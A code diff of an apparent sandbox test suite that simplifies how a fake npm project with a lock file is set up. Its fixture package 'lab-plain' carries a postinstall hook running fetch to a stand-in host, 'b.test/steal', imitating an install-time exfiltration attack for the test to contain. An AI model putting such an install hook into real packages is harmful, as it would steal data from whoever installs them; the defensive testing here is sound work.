@@ -56,16 +56,9 @@ class Presets(harness.SluiceTest):
 
     def project(self):
         call = "fetch('https://b.test/steal').then(() => 0, () => 0)"
-        locked = packages.npm_registry(self.site, "api/npm", [
+        packages.npm_project(self.work, self.site, "api/npm", [
             {"name": "lab-plain", "version": "1.0.0", "scripts": {"postinstall": f'node -e "{call}"'}},
             {"name": "@corp/tool", "version": "2.0.0"}])
-        wanted = {"lab-plain": "1.0.0", "@corp/tool": "2.0.0"}
-        root = {"name": "app", "version": "1.0.0", "dependencies": wanted}
-        packages.write(self.work / "package.json", json.dumps(root))
-        packages.write(self.work / "package-lock.json", json.dumps(
-            {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": {"": root, **locked}}))
-        packages.write(self.work / ".npmrc", f"registry=https://{HOST}/api/npm/\ncache={self.work}/.cache\nupdate-notifier=false\n"
-                       f"//{HOST}/api/npm/:_authToken=lab\n")
         self.mine(self.work)
 
     def test_npm_installs_from_lock_and_by_name_and_cannot_publish(self):
